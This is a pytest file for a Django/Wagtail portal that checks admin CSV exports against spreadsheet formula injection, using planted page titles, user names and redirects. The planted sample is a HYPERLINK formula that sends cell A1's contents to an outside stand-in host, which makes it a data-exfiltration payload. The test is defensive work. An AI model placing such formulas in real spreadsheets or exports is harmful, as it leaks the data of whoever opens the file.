"""What the admin exports starts no formula in whoever opens it."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from portal.serving.spreadsheets import FORMULA, inert

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("https://example.org/?"&A1,"党费")'


def exporting(patterns=None, before: str = "") -> dict[str, type]:
    """By address the views of the admin that export, as far as the address names nothing."""
    found = {}
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        address = before + str(pattern.pattern)
        if hasattr(pattern, "url_patterns"):
            found |= exporting(pattern.url_patterns, address)
            continue
        view = getattr(pattern.callback, "view_class", None)
        if view and issubclass(view, SpreadsheetExportMixin) and "<" not in address:
            found["/" + address.replace("^", "").replace("$", "")] = view
    return found


ADDRESSES = sorted(each for each in exporting() if each.startswith("/admin/"))


@pytest.fixture
def planted(site_world, client):
    """A formula wherever an editor can write one; the administrator exports."""
    page = site_world.home.get_children().first().specific
    page.title = PLANTED
    admin = get_user_model().objects.create_superuser("boss", display_name="=1+1")
    page.locked = True
    page.locked_by = admin
    page.save_revision(user=admin, log_action=True).publish(user=admin)
    Redirect.objects.create(old_path="/=old", redirect_link=PLANTED)
    client.force_login(admin)
    return client


def cells(client, address: str) -> list[str]:
    answer = client.get(address, {"export": "csv"})
    if not answer.get("Content-Type", "").startswith("text/csv"):
        return []
    text = b"".join(answer.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_addresses_that_export_are_found():
    assert {"/admin/reports/site-history/", "/admin/reports/locked/"} <= {*ADDRESSES}


def test_no_export_starts_a_formula(planted):
    met = 0
    for address in ADDRESSES:
        for cell in cells(planted, address):
            assert not cell.startswith(FORMULA), (address, cell)
            met += PLANTED in cell
    assert met >= 3  # the page in two reports, the redirect


def test_numbers_stay_numbers():
    assert [inert(value) for value in (-5, 1.5, None, "-5", " =1", "党费")] == [
        *(-5, 1.5, None, "'-5", "' =1", "党费")
    ]
